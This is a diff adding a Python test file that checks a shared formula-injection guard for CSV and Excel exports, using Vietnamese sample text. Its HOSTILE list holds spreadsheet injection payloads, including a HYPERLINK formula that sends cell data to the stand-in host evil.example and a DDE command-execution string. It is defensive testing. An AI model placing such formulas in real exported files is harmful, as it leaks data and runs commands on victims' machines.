@@ -1,0 +1,65 @@
+"""The one formula-injection rule (shared.safecells), on the writers every service uses."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from shared.safecells import csv_bytes, formula_like, formula_refusal, put_row
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "=1+2",
+    "+1+2",
+    "-2+3",
+    "\t=1+2",
+    "\rTrụ sở",
+]
+HARMLESS = ["Chùa Đông Khê", "-", "-5", "+84912345678", "1.250,5", "Thôn 3 - xã Tiên Thanh", ""]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_formula_like_text_is_recognised(text: str) -> None:
+    assert formula_like(text)
+    reason = formula_refusal(text)
+    assert reason is not None and "công thức" in reason
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_plain_text_and_numbers_are_left_alone(text: str) -> None:
+    assert not formula_like(text)
+    assert formula_refusal(text) is None
+
+
+def test_csv_quotes_formula_text_and_keeps_numbers() -> None:
+    body = csv_bytes(["Nội dung", "Số"], [[text, -5] for text in HOSTILE] + [["-5", 1.5]])
+    assert body.startswith("\ufeff".encode())
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+    assert [row[0] for row in rows[1:-1]] == ["'" + text for text in HOSTILE]
+    assert all(row[1] == "-5" for row in rows[1:-1])
+    assert rows[-1] == ["-5", "1.5"]
+
+
+def test_xlsx_cells_are_strings_never_formulas_and_numbers_stay_numbers() -> None:
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    for number, text in enumerate(HOSTILE, start=1):
+        put_row(sheet, number, [text, -5, 2.5, "-5"])
+    put_row(sheet, len(HOSTILE) + 1, ["#N/A"])
+    buffer = io.BytesIO()
+    book.save(buffer)
+
+    read = load_workbook(io.BytesIO(buffer.getvalue()))
+    cells = list(read.worksheets[0].iter_rows(max_row=len(HOSTILE)))
+    assert [row[0].value for row in cells] == ["'" + text for text in HOSTILE]
+    assert {row[0].data_type for row in cells} == {"s"}
+    assert {(row[1].data_type, row[1].value) for row in cells} == {("n", -5)}
+    assert {(row[2].data_type, row[2].value) for row in cells} == {("n", 2.5)}
+    assert {(row[3].data_type, row[3].value) for row in cells} == {("s", "-5")}
+    assert read.worksheets[0].cell(len(HOSTILE) + 1, 1).data_type == "s"
